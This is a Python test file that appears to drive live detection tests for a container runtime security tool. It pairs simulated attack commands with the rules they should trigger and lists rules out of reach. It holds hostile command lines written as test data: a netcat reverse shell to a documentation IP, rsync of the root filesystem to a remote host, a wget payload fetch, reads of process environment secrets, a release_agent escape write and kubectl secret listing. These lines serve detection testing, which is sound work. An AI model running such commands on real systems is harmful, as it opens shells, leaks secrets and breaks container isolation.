"""Actions that count only in containers, some of them in containers that runc has made, and rules out of reach."""

from __future__ import annotations

from typing import Final

from tests.live.attacks.action import Action, Place, Unable

_PRIVILEGED: Final = "container.privileged is known from the container engine, which live capture does not ask yet"
_IMAGE: Final = (
    "macro container_started compares container.image.repository, which is known from the container engine; "
    "live capture does not ask it yet, and a comparison with a value that is missing is false"
)

CONTAINERS: Final = (
    Action(
        "Terminal shell in container",
        """on_terminal "bash -c 'ln -sf /usr/bin/bash runc; ./runc -c \\"dash -c :; :\\"'\"""",
        {"proc.name": "dash", "proc.pname": "runc", "proc.tty": "[1-9]*"},
        Place.CONTAINER,
        ("dash",),
    ),
    # The first process of the container is a shell, and its parent is runc itself.
    Action(
        "Terminal shell in container",
        ":",
        {"proc.name": "bash", "proc.pname": "runc", "proc.tty": "[1-9]*"},
        Place.RUNC,
        terminal=True,
    ),
    Action(
        "Netcat Remote Code Execution in Container",
        "disguised nc true -e /bin/sh 198.51.100.1 4444",
        {"proc.name": "nc", "proc.cmdline": "nc -e /bin/sh 198.51.100.1 4444"},
        Place.CONTAINER,
    ),
    Action(
        "Linux Kernel Module Injection Detected",
        "call load-module",
        {"proc.name": "python3", "evt.type": "finit_module"},
        Place.CONTAINER,
    ),
    Action(
        "Detect release_agent File Container Escapes",
        "echo /attack >release_agent",
        {"fd.name": "{here}/release_agent", "thread.cap_effective": "*CAP_SYS_ADMIN*"},
        Place.CONTAINER,
    ),
    Action(
        "Drop and execute new binary in container",
        'cp "$(type -P true)" dropped; ./dropped',
        {"proc.name": "dropped", "proc.exe": "./dropped"},
        Place.CONTAINER,
    ),
    Action(
        "Drop and execute new binary in container",
        'cp "$(type -P true)" dropped; ./dropped',
        {"proc.name": "dropped", "proc.exe": "./dropped"},
        Place.RUNC,
    ),
    Action(
        "Change namespace privileges via unshare",
        "setpriv --bounding-set=-sys_admin --inh-caps=-sys_admin unshare --mount true 2>/dev/null",
        {"proc.name": "unshare", "evt.res": "EPERM"},
        Place.CONTAINER,
    ),
    # The container of runc has no such capability to begin with.
    Action(
        "Change namespace privileges via unshare",
        "unshare --mount true 2>/dev/null",
        {"proc.name": "unshare", "evt.res": "EPERM"},
        Place.RUNC,
    ),
    Action(
        "Launch Package Management Process in Container",
        "disguised apk true add attack",
        {"proc.name": "apk", "proc.cmdline": "apk add attack"},
        Place.CONTAINER,
    ),
    Action(
        "Launch Suspicious Network Tool in Container",
        "disguised nmap true 198.51.100.0/24",
        {"proc.name": "nmap", "proc.cmdline": "nmap 198.51.100.0/24"},
        Place.CONTAINER,
    ),
    Action(
        "Launch Suspicious Network Tool in Container",
        "disguised nmap true 198.51.100.0/24",
        {"proc.name": "nmap", "proc.cmdline": "nmap 198.51.100.0/24"},
        Place.RUNC,
    ),
    Action(
        "Launch Remote File Copy Tools in Container",
        "disguised rsync true -a / backup.example:",
        {"proc.name": "rsync", "proc.cmdline": "rsync -a / backup.example:"},
        Place.CONTAINER,
    ),
    Action(
        "Launch Ingress Remote File Copy Tools in Container",
        "disguised wget true http://files.example/attack",
        {"proc.name": "wget", "proc.cmdline": "wget http://files.example/attack"},
        Place.CONTAINER,
    ),
    Action(
        "Read environment variable from /proc files",
        "cat /proc/self/environ >/dev/null",
        {"proc.name": "cat", "fd.name": "/proc/*/environ"},
        Place.CONTAINER,
    ),
    # What `kubectl cp` leaves to be seen: the runtime starts tar without a terminal.
    Action(
        "Exfiltrating Artifacts via Kubernetes Control Plane",
        "echo data >secret; disguised runc bash -c 'tar c secret | cat >/dev/null; :'",
        {"proc.name": "tar", "fd.name": "{here}/secret"},
        Place.CONTAINER,
        ("tar",),
    ),
    Action(
        "Kubernetes Client Tool Launched in Container",
        "disguised kubectl true get secrets",
        {"proc.name": "kubectl", "proc.cmdline": "kubectl get secrets"},
        Place.CONTAINER,
    ),
    Action(
        "Container Drift Detected (chmod)",
        ": >program; chmod +x program",
        {"proc.name": "chmod", "evt.arg.mode": "*S_IXUSR*"},
        Place.CONTAINER,
    ),
    Action(
        "Container Drift Detected (open+create)",
        "call create-executable program",
        {"proc.name": "python3", "evt.arg.filename": "*"},
        Place.CONTAINER,
    ),
    Action(
        "Container Run as Root User",
        "id >/dev/null",
        {"proc.name": "bash", "user.uid": "0"},
        Place.INIT,
    ),
    Action(
        "Container Run as Root User",
        "id >/dev/null",
        {"proc.name": "bash", "user.uid": "0"},
        Place.RUNC,
    ),
    Action(
        "Modify Container Entrypoint",
        "exec 7>file; echo >/proc/self/fd/7",
        {"proc.name": "bash", "fd.name": "/proc/self/fd/7"},
        Place.CONTAINER,
    ),
    Action(
        "Decoding Payload in Container",
        "echo aWQ= | base64 -d >/dev/null",
        {"proc.name": "base64", "proc.cmdline": "base64 -d"},
        Place.CONTAINER,
    ),
)

UNABLE: Final = (
    Unable("Debugfs Launched in Privileged Container", _PRIVILEGED),
    Unable("Mount Launched in Privileged Container", _PRIVILEGED),
    Unable("Launch Privileged Container", f"{_PRIVILEGED}; and {_IMAGE}"),
    Unable("Launch Excessively Capable Container", _IMAGE),
    Unable("Launch Sensitive Mount Container", f"container.mount.dest likewise; and {_IMAGE}"),
    Unable(
        "Launch Disallowed Container",
        f"its allow-list (macro allowed_containers) holds every container until a user narrows it; and {_IMAGE}",
    ),
    Unable(
        "Network Connection outside Local Subnet",
        "k8s.ns.name is known from Kubernetes, which live capture does not ask yet, "
        "and the rule's list of namespaces is empty until a user fills it",
    ),
)
